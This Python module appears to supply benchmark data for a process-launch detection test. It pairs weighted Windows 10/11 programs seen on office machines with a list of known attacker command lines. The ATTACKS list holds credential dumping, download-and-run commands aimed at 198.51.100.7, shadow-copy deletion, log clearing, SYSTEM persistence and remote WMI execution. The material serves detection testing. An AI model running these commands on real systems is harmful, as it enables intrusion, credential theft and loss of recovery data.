"""What the lanes of `netsentinel bench detect` are made of: programs that start all day on office machines; attacks.

The ordinary programs, their parents and the form of their command lines are those of Windows 10 and 11 machines with
Sysmon: browsers and their helpers lead, then services, scheduled work, office programs, developers' and management
tools. In a command line `{h}` and `{g}` are an id of the event's own, `{s}` one that siblings share, `{u}` the user.
"""

from typing import NamedTuple

_SYSTEM32 = "C:\\Windows\\System32\\"
_CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
_EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
_WEBVIEW = "C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\126.0.2592.87\\msedgewebview2.exe"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_CODE = "C:\\Program Files\\Microsoft VS Code\\Code.exe"
_GIT = "C:\\Program Files\\Git\\cmd\\git.exe"
_EXPLORER = "C:\\Windows\\explorer.exe"
_SERVICES = _SYSTEM32 + "services.exe"
_SVCHOST = _SYSTEM32 + "svchost.exe"
_CMD = _SYSTEM32 + "cmd.exe"
_TEAMS = "C:\\Program Files\\WindowsApps\\MSTeams_24165.1410.2974.6689_x64__8wekyb3d8bbwe\\ms-teams.exe"
_AGENT = "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe"
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"

_WINDOWS = ("Microsoft Corporation", "Microsoft® Windows® Operating System")

_HELPER = (
    "--field-trial-handle=2144,i,{h},262144 --variations-seed-version=20260302 --enable-logging=handle "
    "--mojo-platform-channel-handle=5012 /prefetch:1"
)
_RENDERER = (
    "--type=renderer --lang=en-US --device-scale-factor=1.25 --num-raster-threads=4 --enable-main-frame-before-"
    "activation --renderer-client-id=41 --time-ticks-at-unix-epoch=-1719920551 --launch-time-ticks=81243 " + _HELPER
)


class Program(NamedTuple):
    """A program as it is started."""

    weight: int
    """How often it is, among the others."""
    image: str
    parent: str
    command: str
    parent_command: str
    description: str
    maker: tuple[str, str] = _WINDOWS
    """Company and product."""
    as_system: bool = False


ORDINARY = (
    Program(
        90, _CHROME, _CHROME, f'"{_CHROME}" {_RENDERER}', f'"{_CHROME}"', "Google Chrome", ("Google LLC", "Chrome")
    ),
    Program(
        40,
        _CHROME,
        _CHROME,
        f'"{_CHROME}" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US {_HELPER}',
        f'"{_CHROME}" --profile-directory=Default --session={{s}}',
        "Google Chrome",
        ("Google LLC", "Google Chrome"),
    ),
    Program(
        60,
        _EDGE,
        _EDGE,
        f'"{_EDGE}" {_RENDERER}',
        f'"{_EDGE}" --no-startup-window --win-session-start /prefetch:5',
        "Microsoft Edge",
        ("Microsoft Corporation", "Microsoft Edge"),
    ),
    Program(
        45,
        _WEBVIEW,
        _TEAMS,
        f'"{_WEBVIEW}" {_RENDERER}',
        f'"{_TEAMS}" msteams:system-initiated {{s}}',
        "Microsoft Edge WebView2",
        ("Microsoft Corporation", "Microsoft Edge WebView2"),
    ),
    Program(
        70,
        _SVCHOST,
        _SERVICES,
        _SYSTEM32 + "svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{h}",
        _SERVICES,
        "Host Process for Windows Services",
    ),
    Program(
        60,
        _SVCHOST,
        _SERVICES,
        _SYSTEM32 + "svchost.exe -k netsvcs -p -s wlidsvc_{h}",
        _SERVICES,
        "Host Process for Windows Services",
        as_system=True,
    ),
    Program(
        60,
        _SYSTEM32 + "backgroundTaskHost.exe",
        _SVCHOST,
        '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppX{h}.mca',
        _SYSTEM32 + "svchost.exe -k DcomLaunch -p",
        "Background Task Host",
    ),
    Program(
        50,
        _SYSTEM32 + "RuntimeBroker.exe",
        _SVCHOST,
        _SYSTEM32 + "RuntimeBroker.exe -Embedding -session:{h}",
        _SYSTEM32 + "svchost.exe -k DcomLaunch -p",
        "Runtime Broker",
    ),
    Program(
        45,
        _SYSTEM32 + "conhost.exe",
        _CMD,
        "\\??\\C:\\Windows\\system32\\conhost.exe 0x{h} -ForceV1",
        'C:\\Windows\\system32\\cmd.exe /c ""C:\\Program Files\\Build\\step.cmd" {s}"',
        "Console Window Host",
    ),
    Program(
        45,
        _SYSTEM32 + "SearchProtocolHost.exe",
        _SYSTEM32 + "SearchIndexer.exe",
        '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe_{g} '
        'Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 '
        '(compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp"',
        _SYSTEM32 + "SearchIndexer.exe /Embedding",
        "Microsoft Windows Search Protocol Host",
        as_system=True,
    ),
    Program(
        40,
        _SYSTEM32 + "dllhost.exe",
        _SVCHOST,
        _SYSTEM32 + "DllHost.exe /Processid:{{{g}}}",
        _SYSTEM32 + "svchost.exe -k DcomLaunch -p",
        "COM Surrogate",
    ),
    Program(
        40,
        _SYSTEM32 + "taskhostw.exe",
        _SVCHOST,
        "taskhostw.exe {{{g}}}",
        _SYSTEM32 + "svchost.exe -k netsvcs -p -s Schedule",
        "Host Process for Windows Tasks",
    ),
    Program(
        30,
        _SYSTEM32 + "wbem\\WmiPrvSE.exe",
        _SVCHOST,
        _SYSTEM32 + "wbem\\wmiprvse.exe -secured -Embedding -instance {h}",
        _SYSTEM32 + "svchost.exe -k DcomLaunch -p",
        "WMI Provider Host",
        as_system=True,
    ),
    Program(
        25,
        _SYSTEM32 + "smartscreen.exe",
        _SVCHOST,
        _SYSTEM32 + "smartscreen.exe -Embedding /id:{h}",
        _SYSTEM32 + "svchost.exe -k DcomLaunch -p",
        "Windows Defender SmartScreen",
    ),
    Program(
        25,
        "C:\\Windows\\System32\\audiodg.exe",
        _SVCHOST,
        _SYSTEM32 + "AUDIODG.EXE 0x{h}",
        _SYSTEM32 + "svchost.exe -k LocalServiceNetworkRestricted -p",
        "Windows Audio Device Graph Isolation",
        as_system=True,
    ),
    Program(
        30,
        _OFFICE + "OUTLOOK.EXE",
        _EXPLORER,
        f'"{_OFFICE}OUTLOOK.EXE" /eml "C:\\Users\\{{u}}\\Documents\\message {{h}}.eml"',
        _EXPLORER.replace("explorer.exe", "Explorer.EXE"),
        "Microsoft Outlook",
        ("Microsoft Corporation", "Microsoft Outlook"),
    ),
    Program(
        30,
        _OFFICE + "EXCEL.EXE",
        _EXPLORER,
        f'"{_OFFICE}EXCEL.EXE" "C:\\Users\\{{u}}\\OneDrive - Example\\Reports\\figures {{h}}.xlsx"',
        _EXPLORER.replace("explorer.exe", "Explorer.EXE"),
        "Microsoft Excel",
        ("Microsoft Corporation", "Microsoft Office"),
    ),
    Program(
        30,
        _OFFICE + "WINWORD.EXE",
        _EXPLORER,
        f'"{_OFFICE}WINWORD.EXE" /n "C:\\Users\\{{u}}\\Documents\\letter {{h}}.docx" /o ""',
        _EXPLORER.replace("explorer.exe", "Explorer.EXE"),
        "Microsoft Word",
        ("Microsoft Corporation", "Microsoft Office"),
    ),
    Program(
        20,
        "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe",
        _EXPLORER,
        '"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe" "C:\\Users\\{u}\\Documents\\offer {h}.pdf"',
        _EXPLORER.replace("explorer.exe", "Explorer.EXE"),
        "Adobe Acrobat",
        ("Adobe Systems Incorporated", "Adobe Acrobat DC"),
    ),
    Program(
        20,
        "C:\\Program Files\\Microsoft OneDrive\\FileCoAuth.exe",
        _SVCHOST,
        '"C:\\Program Files\\Microsoft OneDrive\\24.116.0609\\FileCoAuth.exe" -Embedding {h}',
        _SYSTEM32 + "svchost.exe -k DcomLaunch -p",
        "Microsoft OneDrive File Co-Authoring Executable",
        ("Microsoft Corporation", "Microsoft OneDrive"),
    ),
    Program(
        35,
        _GIT,
        _CODE,
        "git.exe log --format=%H%n%aN%n%aE%n%at%n%ct%n%P%n%D%n%B -z -n1 {h}",
        f'"{_CODE}" --type=utility --utility-sub-type=node.mojom.NodeService {{s}}',
        "Git for Windows",
        ("The Git Development Community", "Git"),
    ),
    Program(
        25,
        "C:\\Program Files\\Git\\mingw64\\bin\\git.exe",
        _GIT,
        "git.exe for-each-ref --sort -committerdate --format %(refname)%00%(objectname) {h}",
        "git.exe fetch --all --prune {s}",
        "Git for Windows",
        ("The Git Development Community", "Git"),
    ),
    Program(
        20,
        "C:\\Program Files\\nodejs\\node.exe",
        _CMD,
        '"C:\\Program Files\\nodejs\\node.exe" "C:\\src\\portal\\node_modules\\vite\\bin\\vite.js" build --outDir {h}',
        "C:\\Windows\\system32\\cmd.exe /d /s /c vite build {s}",
        "Node.js JavaScript Runtime",
        ("Node.js", "Node.js"),
    ),
    Program(
        20,
        "C:\\Program Files\\Python311\\python.exe",
        _CODE,
        '"C:\\Program Files\\Python311\\python.exe" -m pytest tests\\unit --junit-xml=out\\{h}.xml',
        f'"{_CODE}" C:\\src\\service-{{s}}',
        "Python",
        ("Python Software Foundation", "Python"),
    ),
    Program(
        15,
        "C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\MSBuild\\Current\\Bin\\MSBuild.exe",
        "C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\Common7\\IDE\\devenv.exe",
        "MSBuild.exe /nologo /nodemode:1 /nodeReuse:true /low:false /binlog:C:\\src\\out\\{h}.binlog",
        '"devenv.exe" "C:\\src\\Ledger\\Ledger.sln" {s}',
        "MSBuild.exe",
        ("Microsoft Corporation", "Microsoft® Build Tools®"),
    ),
    Program(
        20,
        _CMD,
        _EXPLORER,
        '"C:\\Windows\\system32\\cmd.exe" /c ""C:\\Tools\\mount-shares.cmd" {h}"',
        _EXPLORER.replace("explorer.exe", "Explorer.EXE"),
        "Windows Command Processor",
    ),
    Program(
        15,
        _POWERSHELL,
        _AGENT,
        '"powershell.exe" -NoProfile -File "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\'
        'DetectionScripts\\{h}\\detect.ps1"',
        f'"{_AGENT}" -remediationScript "{{s}}"',
        "Windows PowerShell",
        as_system=True,
    ),
    Program(
        15,
        "C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-powershell.exe",
        "C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe",
        '"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-powershell.exe" --ps2 {h}',
        '"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe" service',
        "PowerShell v1.0 or v2.0",
        ("Splunk Inc.", "splunk Application"),
        as_system=True,
    ),
    Program(
        15,
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0\\MpCmdRun.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0\\MsMpEng.exe",
        '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0\\MpCmdRun.exe" SignatureUpdate '
        "-ScheduleJob -UnmanagedUpdate -Reinvoke {h}",
        '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0\\MsMpEng.exe"',
        "Microsoft Malware Protection Command Line Utility",
        as_system=True,
    ),
    Program(
        12,
        "C:\\Program Files (x86)\\Google\\GoogleUpdater\\128.0.6537.0\\updater.exe",
        _SVCHOST,
        '"C:\\Program Files (x86)\\Google\\GoogleUpdater\\128.0.6537.0\\updater.exe" --wake --system --id={h}',
        _SYSTEM32 + "svchost.exe -k netsvcs -p -s Schedule",
        "Google Updater (x86)",
        ("Google LLC", "Google Updater"),
        as_system=True,
    ),
    Program(
        10,
        _SYSTEM32 + "rundll32.exe",
        _SVCHOST,
        "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask {h}",
        _SYSTEM32 + "svchost.exe -k netsvcs -p -s Schedule",
        "Windows host process (Rundll32)",
        as_system=True,
    ),
    Program(
        10,
        _SYSTEM32 + "msiexec.exe",
        _SERVICES,
        "C:\\Windows\\System32\\MsiExec.exe -Embedding {h}",
        _SERVICES,
        "Windows® installer",
        as_system=True,
    ),
    Program(
        8,
        "C:\\Program Files\\7-Zip\\7zG.exe",
        _EXPLORER,
        '"C:\\Program Files\\7-Zip\\7zG.exe" x -o"C:\\Users\\{u}\\Documents\\{h}\\" -slp- -an',
        _EXPLORER.replace("explorer.exe", "Explorer.EXE"),
        "7-Zip GUI",
        ("Igor Pavlov", "7-Zip"),
    ),
    Program(
        6,
        _SYSTEM32 + "net.exe",
        _CMD,
        "net use P: \\\\files.example.org\\projects\\{h} /persistent:no",
        'C:\\Windows\\system32\\cmd.exe /c "\\\\example.org\\NETLOGON\\logon.cmd {s}"',
        "Net Command",
    ),
    Program(
        6,
        _SYSTEM32 + "PING.EXE",
        _CMD,
        "ping -n 2 node-{h}.example.org",
        'C:\\Windows\\system32\\cmd.exe /c "\\\\example.org\\NETLOGON\\logon.cmd {s}"',
        "TCP/IP Ping Command",
    ),
    Program(
        5,
        "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Program Files\\Backup\\agent.exe",
        "powershell.exe -NoProfile -NonInteractive -Command Get-Volume; Get-Date # {h}",
        '"C:\\Program Files\\Backup\\agent.exe" -service',
        "Windows PowerShell",
        as_system=True,
    ),
)

ATTACKS = (
    ("whoami.exe", "cmd.exe", "whoami /all"),
    ("net.exe", "cmd.exe", 'net group "Domain Admins" /domain'),
    ("nltest.exe", "cmd.exe", "nltest /domain_trusts /all_trusts"),
    ("reg.exe", "cmd.exe", "reg save HKLM\\SAM C:\\Temp\\sam.hiv"),
    ("schtasks.exe", "cmd.exe", "schtasks /create /sc minute /tn Upd /ru SYSTEM /tr C:\\Users\\Public\\upd.bat"),
    ("rundll32.exe", "cmd.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Temp\\l.dmp full"),
    (
        "powershell.exe",
        "explorer.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\Public\\r.ps1",
    ),
    ("powershell.exe", "cmd.exe", "powershell -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA=="),
    (
        "powershell.exe",
        "WINWORD.EXE",
        "powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
    ),
    ("certutil.exe", "cmd.exe", "certutil -urlcache -split -f http://198.51.100.7/tool.bin C:\\Temp\\tool.bin"),
    ("vssadmin.exe", "cmd.exe", "vssadmin delete shadows /all /quiet"),
    ("wevtutil.exe", "cmd.exe", "wevtutil cl Security"),
    ("mshta.exe", "explorer.exe", "mshta.exe http://198.51.100.7/invoice.hta"),
    ("regsvr32.exe", "cmd.exe", "regsvr32 /s /n /u /i:http://198.51.100.7/f.sct scrobj.dll"),
    (
        "bitsadmin.exe",
        "cmd.exe",
        "bitsadmin /transfer job /download /priority high http://198.51.100.7/t.exe C:\\Temp\\t.exe",
    ),
    ("wmic.exe", "cmd.exe", "wmic /node:10.0.0.5 process call create cmd.exe"),
)
"""Program in System32, its parent there, and a command line that public rules know."""
